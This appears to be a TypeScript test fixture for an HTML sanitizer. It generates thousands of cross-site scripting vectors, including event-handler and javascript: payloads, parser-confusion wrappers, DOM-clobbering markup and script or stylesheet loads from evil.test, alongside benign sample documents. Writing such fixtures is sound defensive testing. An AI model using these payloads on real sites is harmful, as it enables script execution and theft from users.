/** What hostile HTML calls where it manages to run. */
export const calls = 'hostileRan()';

const tags = (
  'a abbr article audio base body button canvas details dialog div embed fieldset font form frameset iframe image img input isindex ' +
  'keygen label link marquee math menu meta object p plaintext portal select slot source span style svg table td template textarea title ' +
  'track video x-custom'
).split(' ');
const events =
  'onerror onload onclick onfocus onmouseover ontoggle onanimationstart onbeforetoggle onscrollend onpageshow'.split(
    ' ',
  );

/** Addresses that run something where a browser takes them for one. */
const addresses = [
  `javascript:${calls}`,
  `JaVaScRiPt:${calls}`,
  ` javascript:${calls}`,
  `java\tscript:${calls}`,
  `java\nscript:${calls}`,
  `&#106;avascript:${calls}`,
  `&#x6A;&#x61;vascript:${calls}`,
  `javascript&colon;${calls}`,
  `\u0001javascript:${calls}`,
  `vbscript:${calls}`,
  `data:text/html,<script>parent.${calls}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${calls}'/>`,
  '//evil.test/x',
  '/\\evil.test/x',
  'https:evil.test',
  `blob:https://evil.test/1`,
  `filesystem:https://evil.test/1`,
];
const holders = [
  'a href',
  'img src',
  'iframe src',
  'form action',
  'button formaction',
  'object data',
  'embed src',
  'video poster',
  'base href',
  'link rel=stylesheet href',
];

/** Markup that runs, calls another site or takes the name of something global, if it comes through. */
const vectors: readonly string[] = [
  ...tags.flatMap((tag, at) =>
    [0, 3, 7].map(
      (step) => `<${tag} src=x ${events[(at + step) % events.length]}="${calls}" autofocus tabindex=0 open>`,
    ),
  ),
  ...addresses.flatMap((address, at) =>
    [0, 4].map((step) => `<${holders[(at + step) % holders.length]}="${address}">x`),
  ),
  `<script>${calls}</script>`,
  `<script src="https://evil.test/x.js"></script>`,
  `<script src=data:,${calls}></script>`,
  `<svg><script>${calls}</script></svg>`,
  `<svg><script href=data:,${calls} /></svg>`,
  `<svg><animate onbegin=${calls} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${calls} /><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>`,
  `<svg><foreignObject><img src=x onerror=${calls}></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${calls}></svg>`,
  `<math href="javascript:${calls}">x</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${calls}">x</maction></math>`,
  `<math><mtext><img src=x onerror=${calls}></mtext></math>`,
  `<math><semantics><annotation encoding="text/html"><img src=x onerror=${calls}></annotation></semantics></math>`,
  `<math><mi id=viewer name=config style="background:url(https://evil.test/m)">x</mi></math>`,
  `<math><mtext></math><img src=x onerror=${calls}></mtext>`,
  `<video controls poster=https://evil.test/p><source src=https://evil.test/v><track default src=https://evil.test/t></video>`,
  `<div class=callout-tip role=note id=viewer onclick=${calls}>x</div>`,
  `<img src="x" srcset="https://evil.test/a 1x, https://evil.test/b 2x" onerror=${calls}>`,
  `<picture><source srcset="https://evil.test/a"><img src=x onerror=${calls}></picture>`,
  `<p style="background:url(https://evil.test/a)">x</p>`,
  `<style>@import "https://evil.test/a.css"; p { background: url(https://evil.test/b) }</style>`,
  `<link rel=preload as=image href=https://evil.test/a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${calls}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<iframe srcdoc="<script>parent.${calls}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${calls}</script>"></object>`,
  `<form id=location name=document><input name=cookie><input id=getElementById name=body></form>`,
  `<a id=viewer></a><a id=viewer name=href href="javascript:${calls}"></a>`,
  `<img name=currentScript id=trustedTypes>`,
  `<p id=__proto__ name=constructor>x</p>`,
  `<template shadowrootmode=open><img src=x onerror=${calls}></template>`,
  `<details open ontoggle=${calls}><summary>x</summary></details>`,
  `<video autoplay onloadstart=${calls}><source onerror=${calls} src=x></video>`,
  `<audio src=x onerror=${calls}></audio>`,
  `<input autofocus onfocus=${calls}>`,
  `<select autofocus onfocus=${calls}><option>x</select>`,
  `<ol type=javascript:${calls} start=javascript:${calls}><li value=javascript:${calls} onclick=${calls}>x</ol>`,
  `<marquee onstart=${calls}>x</marquee>`,
  `<body onload=${calls}><frameset onload=${calls}>`,
  `<div popover id=p onbeforetoggle=${calls}></div><button popovertarget=p autofocus>x</button>`,
  `<a ping="https://evil.test/p" href="/x" download>x</a>`,
  `<img src=/media/../graphql>`,
  `<img src=/media/0b6f3c52-9d3e-4c1a-8a57-2f6f2f0d9c11 onerror=${calls} onload=${calls}>`,
  `<base href="https://evil.test/"><img src=a><a href=b>x</a>`,
  `<noscript><img src=x onerror=${calls}></noscript>`,
  `<textarea><img src=x onerror=${calls}></textarea>`,
  `<xmp><img src=x onerror=${calls}></xmp>`,
  `<a href="https://example.org/" onclick=${calls} style=x target=_top rel=opener>x</a>`,
  `\u003cscript>${calls}\u003c/script>`,
  `<scr\0ipt>${calls}</scr\0ipt>`,
  `<img/src=x/onerror=${calls}>`,
  `<img src=x:x onerror\u000c=${calls}>`,
  `<svg/onload=${calls}//`,
  `<<script>${calls}//<</script>`,
  `<img src="x\` \`<script>${calls}</script>"\` \`>`,
  `<a href='x' '><img src=x onerror=${calls}>'>x</a>`,
];

/** Places in which parsers have read the same markup differently, `$` standing for it. */
const places: readonly string[] = [
  '$',
  '<p>$</p>',
  '<p title="$">x</p>',
  "<img alt='$' src=x>",
  '<!--$-->',
  '<!-->$-->',
  '<!--!>$<!-->',
  '<![CDATA[$]]>',
  '<?xml $?>',
  '<svg>$</svg>',
  '<svg><style>$</style></svg>',
  '<svg></p><style><a id="</style>$">',
  '<svg><title><p><style>$</style></p></title></svg>',
  '<svg><desc><table><caption>$</caption></table></desc></svg>',
  '<math>$</math>',
  '<math><mtext>$</mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style>$--></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html">$</annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math>$',
  '<noscript><p title="</noscript>$"></noscript>',
  '<style>$</style>',
  '<style><!--</style>$--></style>',
  '<title>$</title>',
  '<textarea></textarea>$',
  '<xmp></xmp>$',
  '<noembed><p title="</noembed>$"></noembed>',
  '<noframes><p title="</noframes>$"></noframes>',
  '<iframe><p title="</iframe>$"></iframe>',
  '<plaintext>$',
  '<template>$</template>',
  '<select><option>$</option></select>',
  '<select><template><p></select>$',
  '<table>$<tr><td>x</td></tr></table>',
  '<table><td>$</table>',
  '<ul><li>$',
  '<a href=x>$</a>',
  '<p><b><i><u>$</p>',
  '<button><p>$</button>',
  '<details open>$</details>',
  '<h2>$<h2>$',
  '<pre>\n$</pre>',
  '<code class="language-$">x</code>',
  '<object><p>$</p></object>',
  '<option><style></option></select>$</style>',
  '<br>'.repeat(20) + '$',
  '<div>'.repeat(60) + '$',
  '<font color="$">x</font>',
  '&lt;p&gt;$&lt;/p&gt;',
  '<ruby><rtc>$</rtc></ruby>',
  '<custom-element is="$">$</custom-element>',
];

/** More than ten thousand pieces of hostile HTML: each vector in each place. */
export const hostileHtml: readonly string[] = places.flatMap((place) =>
  vectors.map((vector) => place.replaceAll('$', () => vector)),
);

const words = [
  'A sensor',
  'reads 4 &lt; 5',
  'Fisch &amp; Chips',
  'يقرأ',
  '温度',
  'naïve',
  '🎓',
  'if x &gt; 2',
  'm²',
  '“quoted”',
];
const inlines = ['strong', 'b', 'em', 'i', 'u', 's', 'del', 'ins', 'mark', 'small', 'sub', 'sup', 'kbd', 'code'];

/** Five hundred documents as authors write them; the way they are written is the way a browser writes them. */
export const benignHtml: readonly string[] = Array.from({ length: 500 }, (_, at) => {
  const word = (step: number) => words[(at * 3 + step * 7) % words.length] ?? '';
  const inline = (step: number) => {
    const tag = inlines[(at + step) % inlines.length];
    return `${word(step)} <${tag}>${word(step + 1)}</${tag}>`;
  };
  const picture = `<img src="/media/0b6f3c52-9d3e-4c1a-8a57-2f6f2f0d9c11" alt="${word(2)}" width="${at + 1}" height="${at + 2}">`;
  const blocks = [
    `<p>${inline(1)}</p>`,
    `<h${2 + (at % 5)}>${word(3)}</h${2 + (at % 5)}>`,
    `<ul><li>${inline(2)}</li><li>${word(4)}<ol start="${at + 1}"><li>${word(5)}</li></ol></li></ul>`,
    `<ol type="${'aAiI1'[at % 5]}"><li value="${at + 2}">${word(3)}</li></ol>`,
    `<blockquote><p dir="auto">${inline(3)}</p></blockquote>`,
    `<table><caption>${word(1)}</caption><thead><tr><th scope="col" colspan="2">${word(2)}</th></tr></thead><tbody><tr><td align="right">${at}</td><td rowspan="2">${inline(4)}</td></tr></tbody></table>`,
    `<pre dir="ltr"><code class="language-python">${word(6)}\n    ${word(7)}\n</code></pre>`,
    `<figure>${picture}<figcaption>${word(8)}</figcaption></figure>`,
    `<details open=""><summary>${word(9)}</summary><p>${inline(5)}</p></details>`,
    `<dl><dt>${word(1)}</dt><dd>${inline(6)}</dd></dl>`,
    `<p><a href="https://example.org/a?b=${at}&amp;c=d" target="_blank" rel="noopener noreferrer">${word(2)}</a><br><a href="/library/e-book/sensors?page=${at}">${word(3)}</a> <a href="mailto:help@school.test">x</a></p>`,
    `<div dir="rtl" lang="ar"><p>${word(3)} <span lang="en">${word(0)}</span></p></div>`,
    `<hr>`,
    `<div class="callout-tip" role="note"><p>${inline(2)}</p></div>`,
    `<p>${word(1)} <math><semantics><msup><mi>x</mi><mn>2</mn></msup><annotation encoding="application/x-tex">x^2</annotation></semantics></math></p>`,
    `<video controls="" preload="metadata"><source src="/media/0b6f3c52-9d3e-4c1a-8a57-2f6f2f0d9c11" type="video/mp4"><track src="/media/0b6f3c52-9d3e-4c1a-8a57-2f6f2f0d9c11" kind="captions" srclang="en" label="${word(4)}"></video>`,
  ];
  return Array.from({ length: 1 + (at % 6) }, (_unused, step) => blocks[(at * 5 + step * 7) % blocks.length]).join('');
});
